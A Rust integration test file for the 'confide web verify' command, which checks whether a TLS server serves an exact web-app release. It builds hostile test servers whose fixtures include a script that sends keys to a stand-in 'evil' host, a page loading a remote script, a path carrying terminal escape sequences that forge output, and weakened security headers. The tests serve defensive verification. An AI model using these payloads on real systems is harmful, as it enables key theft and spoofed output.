//! `confide web verify` against a real confide-server serving a web app over TLS: a server that
//! serves the release passes, by its release hash and against a local build; one that serves a
//! modified script (with a manifest of its own that matches it) fails and names the file; and a
//! hand-made hostile server that keeps the plain file honest but changes what browsers get
//! (the brotli form), or lists a path made to act on the terminal, is caught and shown safely.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::collections::HashMap;
use std::io::Write as _;
use std::path::Path;
use std::process::Output;
use std::sync::Arc;

use common::{BIN, person};
use confide_server::{Limits, TlsIdentity, WebAssets, WebSettings};
use confide_tests::TestServer;
use sha2::{Digest as _, Sha256};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const INDEX: &[u8] =
    b"<!doctype html><title>Confide</title><script type=module src=/assets/app-3f9a.js></script>";
const APP_JS: &[u8] = b"console.log('confide');";
/// The script changed by a hostile server: the same length, so only the hash can tell.
const EVIL_JS: &[u8] = b"fetch('//evil/'+keys);;";
const JS_PATH: &str = "/assets/app-3f9a.js";
/// What `confide web verify` exits with when the server does not serve the release.
const EXIT_WEB_MISMATCH: i32 = 8;

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(bytes).unwrap();
    gz.finish().unwrap()
}

fn brotli(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut writer = brotli::CompressorWriter::new(&mut out, 4096, 9, 22);
        writer.write_all(bytes).unwrap();
    }
    out
}

/// The manifest of `files`, as the build writes it.
fn manifest(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut manifest = serde_json::Map::new();
    for (path, bytes) in files {
        manifest.insert(
            path.to_string(),
            serde_json::json!({"sha256": sha256_hex(bytes), "size": bytes.len()}),
        );
    }
    serde_json::to_vec_pretty(&manifest).unwrap()
}

/// A build of the web app with `js` as its script (with the script's `.gz` and `.br` forms),
/// as `cargo xtask web` writes it; returns the directory and its release hash.
fn build(js: &[u8]) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let files: [(&str, &[u8]); 2] = [("/index.html", INDEX), (JS_PATH, js)];
    for (path, bytes) in files {
        let file = dir.path().join(path.trim_start_matches('/'));
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, bytes).unwrap();
    }
    let script = dir.path().join(JS_PATH.trim_start_matches('/'));
    std::fs::write(script.with_extension("js.gz"), gzip(js)).unwrap();
    std::fs::write(script.with_extension("js.br"), brotli(js)).unwrap();
    let manifest = manifest(&files);
    let release = sha256_hex(&manifest);
    std::fs::write(dir.path().join("asset-manifest.json"), &manifest).unwrap();
    std::fs::write(dir.path().join("release-hash.txt"), format!("{release}\n")).unwrap();
    (dir, release)
}

/// A confide-server serving the build in `dir`, as `--web-dir dir` does.
async fn serving(dir: &Path) -> TestServer {
    let assets = WebAssets::load(dir, confide_server::web::DEFAULT_WEB_MAX_BYTES).unwrap();
    let web = WebSettings::new(Some(Arc::new(assets)), None, false).unwrap();
    TestServer::start_with(Limits {
        web,
        ..Limits::default()
    })
    .await
}

/// Runs `confide --profile <a directory without a profile> web verify ARGS…`.
fn verify(args: &[&str]) -> Output {
    let nowhere = tempfile::tempdir().unwrap();
    std::process::Command::new(BIN)
        .arg("--profile")
        .arg(nowhere.path().join("none"))
        .args(["web", "verify"])
        .args(args)
        .output()
        .unwrap()
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8(out.stderr.clone()).unwrap()
}

/// The problems of a `--json` report as (path, form).
fn problems(report: &serde_json::Value) -> Vec<(String, Option<String>)> {
    report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["path"].as_str().unwrap().to_string(),
                p["form"].as_str().map(str::to_string),
            )
        })
        .collect()
}

#[test]
fn a_server_serving_the_release_passes_by_its_hash_and_against_a_build() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (release_dir, release) = build(APP_JS);
    let server = runtime.block_on(serving(release_dir.path()));
    let target = ["--server", &server.url, "--pin", &server.pin];

    let by_hash = verify(&[&target[..], &["--expect", &release]].concat());
    assert!(by_hash.status.success(), "{}", stderr(&by_hash));
    assert!(
        stdout(&by_hash).contains(&format!("the server serves release {release}")),
        "{}",
        stdout(&by_hash)
    );

    let against = release_dir.path().to_str().unwrap();
    let by_build = verify(&[&target[..], &["--against", against, "--json"]].concat());
    assert!(by_build.status.success(), "{}", stderr(&by_build));
    let report: serde_json::Value = serde_json::from_str(&stdout(&by_build)).unwrap();
    assert_eq!(report["serves_release"], true);
    assert_eq!(report["served_manifest_sha256"], release.as_str());
    // The manifest, /, /index.html and the script.
    assert_eq!(report["paths_checked"], 4);
    assert!(problems(&report).is_empty(), "{report}");

    // The same server against another release hash is not that release.
    let other = verify(&[&target[..], &["--expect", &"0".repeat(64)]].concat());
    assert_eq!(other.status.code(), Some(EXIT_WEB_MISMATCH));
    assert!(stderr(&other).contains("does NOT serve the expected release"));
}

#[test]
fn an_app_host_that_names_another_relay_passes_and_the_relay_is_reported() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (release_dir, release) = build(APP_JS);
    let server = runtime.block_on(async {
        let assets = WebAssets::load(
            release_dir.path(),
            confide_server::web::DEFAULT_WEB_MAX_BYTES,
        )
        .unwrap();
        let web = WebSettings::new(Some(Arc::new(assets)), None, false)
            .unwrap()
            .with_relay(Some("wss://relay.example.org/"))
            .unwrap();
        TestServer::start_with(Limits {
            web,
            ..Limits::default()
        })
        .await
    });
    let target = ["--server", &server.url, "--pin", &server.pin];
    let text = verify(&[&target[..], &["--expect", &release]].concat());
    assert!(text.status.success(), "{}", stderr(&text));
    assert!(
        stdout(&text).contains(
            "the app connects to the relay wss://relay.example.org/ (named in /web-config.json); \
             its policy also allows connections to wss://relay.example.org"
        ),
        "{}",
        stdout(&text)
    );
    let json = verify(&[&target[..], &["--expect", &release, "--json"]].concat());
    let report: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!(report["serves_release"], true);
    assert_eq!(report["relay"], "wss://relay.example.org/");
    assert_eq!(
        report["connect_src"],
        serde_json::json!(["wss://relay.example.org"])
    );

    // A server on its own: the app connects to it.
    let plain = runtime.block_on(serving(release_dir.path()));
    let out = verify(&[
        "--server", &plain.url, "--pin", &plain.pin, "--expect", &release,
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("the app connects to the server itself\n"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_modified_script_with_its_own_manifest_is_named_against_the_build() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (release_dir, release) = build(APP_JS);
    let (modified_dir, modified) = build(EVIL_JS);
    assert_ne!(release, modified);
    // The server checks its files against its own manifest, and this one is consistent.
    let server = runtime.block_on(serving(modified_dir.path()));
    let against = release_dir.path().to_str().unwrap();
    let target = ["--server", &server.url, "--pin", &server.pin];

    let out = verify(&[&target[..], &["--against", against]].concat());
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines.iter().any(|l| l.starts_with("/asset-manifest.json:")
            && l.contains(&modified)
            && l.contains(&release)),
        "{text}"
    );
    for form in ["", " (gzip form)", " (brotli form)", " (browser form)"] {
        let prefix = format!("{JS_PATH}{form}: SHA-256 ");
        assert!(lines.iter().any(|l| l.starts_with(&prefix)), "{text}");
    }
    // index.html and / are the release's: only the script is named.
    assert!(!text.contains("index.html"), "{text}");
    let verdict = stderr(&out);
    assert!(
        verdict.contains("the server does NOT serve the expected release")
            && verdict.contains(&format!("1 path differs: {JS_PATH}")),
        "{verdict}"
    );

    let json = verify(&[&target[..], &["--against", against, "--json"]].concat());
    assert_eq!(json.status.code(), Some(EXIT_WEB_MISMATCH));
    let report: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!(report["serves_release"], false);
    assert_eq!(
        problems(&report),
        [
            ("/asset-manifest.json".to_string(), None),
            (JS_PATH.to_string(), Some("plain".to_string())),
            (JS_PATH.to_string(), Some("gzip".to_string())),
            (JS_PATH.to_string(), Some("brotli".to_string())),
            (JS_PATH.to_string(), Some("browser".to_string())),
        ]
    );
}

#[test]
fn a_server_whose_manifest_is_not_the_release_fails_the_release_hash() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (_release_dir, release) = build(APP_JS);
    let (modified_dir, modified) = build(EVIL_JS);
    let server = runtime.block_on(serving(modified_dir.path()));

    let out = verify(&[
        "--server",
        &server.url,
        "--pin",
        &server.pin,
        "--expect",
        &release,
    ]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    assert!(
        stdout(&out).contains(&format!(
            "/asset-manifest.json: SHA-256 {modified}, the release's is {release}"
        )),
        "{}",
        stdout(&out)
    );
    let verdict = stderr(&out);
    assert!(
        verdict.contains("the server does NOT serve the expected release")
            && verdict.contains("give --against"),
        "{verdict}"
    );
}

#[test]
fn the_profile_gives_the_server_and_its_pin() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (release_dir, release) = build(APP_JS);
    let server = runtime.block_on(serving(release_dir.path()));
    let root = tempfile::tempdir().unwrap();
    let alice = person(root.path(), "Alice", &server);

    let out = alice.run(&["web", "verify", "--expect", &release]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains(&format!("the server serves release {release}")));

    // A wrong pin is refused before anything is fetched.
    let wrong = alice.run(&[
        "web",
        "verify",
        "--expect",
        &release,
        "--pin",
        &"ab".repeat(32),
    ]);
    assert_eq!(wrong.status.code(), Some(5), "{}", stderr(&wrong));
}

/// A hostile server: answers each (path, Accept-Encoding) with a body and an optional
/// Content-Encoding from `routes` (the plain answer for any encoding it has no entry for), 404
/// otherwise, one request per connection.
struct Hostile {
    port: u16,
    pin: String,
    _data: tempfile::TempDir,
}

type Routes = HashMap<(String, String), (Vec<u8>, Option<&'static str>)>;

/// The header fields a release's server sends with the answer for `path` (besides
/// Content-Length, Content-Encoding and Connection), from the server's own definitions.
fn release_headers(path: &str) -> Vec<(String, String)> {
    use confide_server::web;
    let served = if path == "/" { "/index.html" } else { path };
    [
        ("Content-Type", web::content_type(served).to_string()),
        ("Vary", "Accept-Encoding".to_string()),
        ("Cache-Control", web::cache_control(served).to_string()),
        (
            "Content-Security-Policy",
            format!("{}{}", web::CSP_CONNECT, web::CSP_REST),
        ),
        ("X-Content-Type-Options", web::X_CONTENT_TYPE_OPTIONS.into()),
        ("Referrer-Policy", web::REFERRER_POLICY.into()),
        (
            "Cross-Origin-Opener-Policy",
            web::CROSS_ORIGIN_OPENER_POLICY.into(),
        ),
        (
            "Cross-Origin-Embedder-Policy",
            web::CROSS_ORIGIN_EMBEDDER_POLICY.into(),
        ),
        (
            "Cross-Origin-Resource-Policy",
            web::CROSS_ORIGIN_RESOURCE_POLICY.into(),
        ),
        ("X-Frame-Options", web::X_FRAME_OPTIONS.into()),
        ("Permissions-Policy", web::PERMISSIONS_POLICY.into()),
    ]
    .into_iter()
    .map(|(n, v)| (n.to_string(), v))
    .collect()
}

/// Changes the header fields of the answer for a path.
type EditHeaders = fn(&str, &mut Vec<(String, String)>);

impl Hostile {
    async fn start(routes: Routes) -> Hostile {
        Hostile::start_with(routes, |_, _| {}).await
    }

    /// A hostile server whose answers carry the release's header fields as `edit` changes them.
    async fn start_with(routes: Routes, edit: EditHeaders) -> Hostile {
        let data = tempfile::tempdir().unwrap();
        let identity = TlsIdentity::dev(data.path()).unwrap();
        let pin = identity.fingerprint();
        let acceptor = tokio_rustls::TlsAcceptor::from(identity.server_config().unwrap());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let routes = Arc::new(routes);
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let acceptor = acceptor.clone();
                let routes = routes.clone();
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let mut head = Vec::new();
                    let mut byte = [0u8; 1];
                    while !head.ends_with(b"\r\n\r\n") {
                        if tls.read(&mut byte).await.unwrap_or(0) == 0 {
                            return;
                        }
                        head.push(byte[0]);
                    }
                    let head = String::from_utf8(head).unwrap();
                    let path = head.split(' ').nth(1).unwrap().to_string();
                    let encoding = head
                        .lines()
                        .find_map(|l| l.strip_prefix("Accept-Encoding: "))
                        .unwrap()
                        .to_string();
                    let answer = routes
                        .get(&(path.clone(), encoding))
                        .or_else(|| routes.get(&(path.clone(), "identity".to_string())));
                    let response = match answer {
                        Some((body, coding)) => {
                            let mut r =
                                format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n", body.len());
                            if let Some(coding) = coding {
                                r.push_str(&format!("Content-Encoding: {coding}\r\n"));
                            }
                            let mut headers = release_headers(&path);
                            edit(&path, &mut headers);
                            for (name, value) in headers {
                                r.push_str(&format!("{name}: {value}\r\n"));
                            }
                            r.push_str("Connection: close\r\n\r\n");
                            [r.into_bytes(), body.clone()].concat()
                        }
                        None => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
                    };
                    let _ = tls.write_all(&response).await;
                    let _ = tls.shutdown().await;
                });
            }
        });
        Hostile {
            port,
            pin,
            _data: data,
        }
    }

    fn verify(&self, args: &[&str]) -> Output {
        let server = format!("https://localhost:{}", self.port);
        verify(&[&["--server", &server, "--pin", &self.pin], args].concat())
    }
}

/// The routes of the release: every file plain, the script also gzip- and brotli-compressed.
fn release_routes() -> (Routes, String) {
    let manifest = manifest(&[("/index.html", INDEX), (JS_PATH, APP_JS)]);
    let release = sha256_hex(&manifest);
    let plain = |path: &str, body: &[u8]| {
        (
            (path.to_string(), "identity".to_string()),
            (body.to_vec(), None),
        )
    };
    let routes = Routes::from([
        plain("/asset-manifest.json", &manifest),
        plain("/index.html", INDEX),
        plain("/", INDEX),
        plain(JS_PATH, APP_JS),
        (
            (JS_PATH.to_string(), "gzip".to_string()),
            (gzip(APP_JS), Some("gzip")),
        ),
        (
            (JS_PATH.to_string(), "br".to_string()),
            (brotli(APP_JS), Some("br")),
        ),
    ]);
    (routes, release)
}

#[test]
fn a_server_that_changes_only_what_browsers_receive_is_caught() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (routes, release) = release_routes();
    let honest = runtime.block_on(Hostile::start(routes.clone()));
    let out = honest.verify(&["--expect", &release]);
    assert!(out.status.success(), "{}", stderr(&out));

    // Browsers ask for brotli; the plain and gzip forms stay the release's.
    let mut routes = routes;
    routes.insert(
        (JS_PATH.to_string(), "br".to_string()),
        (brotli(EVIL_JS), Some("br")),
    );
    let hostile = runtime.block_on(Hostile::start(routes));
    let out = hostile.verify(&["--expect", &release, "--json"]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(
        problems(&report),
        [(JS_PATH.to_string(), Some("brotli".to_string()))]
    );
}

#[test]
fn a_path_made_to_act_on_the_terminal_is_shown_inert() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (mut routes, _) = release_routes();
    let (release_dir, _) = build(APP_JS);
    // A served manifest that lists one path more than the release, named to clear the screen,
    // set the window title and forge a verdict line.
    let evil_path = "/x\u{1b}[2J\u{1b}]0;owned\u{7}\nthe server serves release 0000";
    let mut listed: serde_json::Value =
        serde_json::from_slice(&manifest(&[("/index.html", INDEX), (JS_PATH, APP_JS)])).unwrap();
    listed[evil_path] = serde_json::json!({"sha256": "00".repeat(32), "size": 1});
    routes.insert(
        ("/asset-manifest.json".to_string(), "identity".to_string()),
        (serde_json::to_vec(&listed).unwrap(), None),
    );
    let hostile = runtime.block_on(Hostile::start(routes));

    let out = hostile.verify(&["--against", release_dir.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let text = stdout(&out);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text:?}"
    );
    assert!(
        text.lines()
            .any(|l| l.starts_with("/x\u{fffd}[2J") && l.contains("not in the release")),
        "{text}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("the server serves")),
        "{text}"
    );
    // --json gives the exact path, escaped by JSON.
    let json = hostile.verify(&["--against", release_dir.path().to_str().unwrap(), "--json"]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert!(
        problems(&report).iter().any(|(p, _)| p == evil_path),
        "{report}"
    );
}

#[test]
fn a_root_page_other_than_the_releases_index_is_caught() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (mut routes, release) = release_routes();
    // `/index.html` is the release's; what a person opening the server's address gets is not.
    routes.insert(
        ("/".to_string(), "identity".to_string()),
        (
            b"<!doctype html><script src=//evil/x.js></script>".to_vec(),
            None,
        ),
    );
    let hostile = runtime.block_on(Hostile::start(routes));
    let out = hostile.verify(&["--expect", &release]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let text = stdout(&out);
    for form in ["", " (gzip form)", " (brotli form)"] {
        let prefix = format!("/{form}: not the release's /index.html");
        assert!(text.lines().any(|l| l.starts_with(&prefix)), "{text}");
    }
    assert!(
        !text.lines().any(|l| l.starts_with("/index.html")),
        "{text}"
    );
    assert!(
        stderr(&out).contains("1 path differs: /"),
        "{}",
        stderr(&out)
    );
}

/// Browsers send `Accept-Encoding: gzip, deflate, br, zstd`.
const BROWSER_ACCEPT_ENCODING: &str = "gzip, deflate, br, zstd";

#[test]
fn a_server_that_serves_the_files_with_other_security_headers_is_caught() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (routes, release) = release_routes();
    // The script without its Content-Security-Policy (the files are the release's).
    let no_csp = runtime.block_on(Hostile::start_with(routes.clone(), |path, headers| {
        if path == JS_PATH {
            headers.retain(|(n, _)| n != "Content-Security-Policy");
        }
    }));
    let out = no_csp.verify(&["--expect", &release, "--json"]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let found = problems(&report);
    assert!(
        !found.is_empty() && found.iter().all(|(p, _)| p == JS_PATH),
        "{report}"
    );
    assert!(
        report.to_string().contains("Content-Security-Policy"),
        "{report}"
    );

    // A CSP that lets another site frame the app.
    let framable = runtime.block_on(Hostile::start_with(routes.clone(), |_, headers| {
        for (name, value) in headers.iter_mut() {
            if name == "Content-Security-Policy" {
                *value = value.replace("frame-ancestors 'none'", "frame-ancestors *");
            }
        }
    }));
    let out = framable.verify(&["--expect", &release]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );

    // The page adds Clear-Site-Data, which would wipe every visitor's profile.
    let wiper = runtime.block_on(Hostile::start_with(routes, |path, headers| {
        if path == "/" {
            headers.push(("Clear-Site-Data".into(), "\"storage\"".into()));
        }
    }));
    let out = wiper.verify(&["--expect", &release]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    assert!(stdout(&out).contains("Clear-Site-Data"), "{}", stdout(&out));
}

#[test]
fn a_server_that_answers_browsers_in_a_coding_the_check_cannot_read_is_caught() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (mut routes, release) = release_routes();
    // Only to a browser's exact Accept-Encoding, the script comes as zstd (which could hold
    // anything: the check cannot decode it).
    routes.insert(
        (JS_PATH.to_string(), BROWSER_ACCEPT_ENCODING.to_string()),
        (b"(zstd bytes)".to_vec(), Some("zstd")),
    );
    let hostile = runtime.block_on(Hostile::start(routes));
    let out = hostile.verify(&["--expect", &release, "--json"]);
    assert_eq!(
        out.status.code(),
        Some(EXIT_WEB_MISMATCH),
        "{}",
        stderr(&out)
    );
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(
        problems(&report),
        [(JS_PATH.to_string(), Some("browser".to_string()))]
    );
    assert!(report.to_string().contains("zstd"), "{report}");
}
